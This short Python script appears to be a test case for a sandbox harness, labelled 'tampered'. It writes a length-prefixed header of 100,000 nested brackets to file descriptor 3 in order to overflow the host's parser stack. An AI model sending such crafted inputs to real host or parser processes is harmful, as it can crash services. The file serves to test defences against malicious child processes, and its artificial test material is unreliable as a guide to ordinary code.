# outcome: tampered
# tries: overflow the host's stack with a deeply nested header

import os

header = b"[" * 100_000 + b"]" * 100_000
data = len(header).to_bytes(4, "big") + bytes(4) + header
while data:
    data = data[os.write(3, data) :]
os._exit(0)
